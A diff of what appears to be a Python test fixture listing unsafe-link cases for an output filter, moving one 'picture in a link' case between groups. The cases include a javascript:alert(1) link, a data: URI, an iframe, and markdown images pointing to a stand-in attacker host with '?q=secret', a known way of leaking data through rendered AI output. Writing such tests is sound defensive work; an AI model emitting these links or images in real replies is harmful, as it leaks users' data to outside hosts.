@@ -99,7 +99,6 @@ _ADDRESSES = _group(
         "link to a script": "The [reading room](javascript:alert(1)) opened in 1893 [{a}].",
         "link to data": "The [reading room](data:text/html,x) opened in 1893 [{a}].",
         "picture": f"The reading room ![bar]({EVIL}?q=secret) opened in 1893 [{{a}}].",
-        "picture in a link": f"The reading room [![b]({EVIL})]({EVIL}) opened in 1893 [{{a}}].",
         "autolink": f"{{o}} <{EVIL}> [{{a}}].",
         "bare": f"{{o}} {EVIL} [{{a}}].",
         "with other letters": "{o} HTTPS://EVIL.EXAMPLE/X [{a}].",
@@ -128,6 +127,7 @@ _ADDRESSES = _group(
     {
         "reference": f"The [reading room][ref] had a café in 1893.\n\n[ref]: {EVIL} 'Café'",
         "only": EVIL,
+        "picture in a link": f"The reading room [![b]({EVIL})]({EVIL}) opened in 1893 [{{a}}].",
         "only a picture": f"![x]({EVIL})",
         "frame": f"<iframe src='{EVIL}'></iframe>",
         "sent away": f"Send your question to {EVIL}?q=library [{{a}}].",
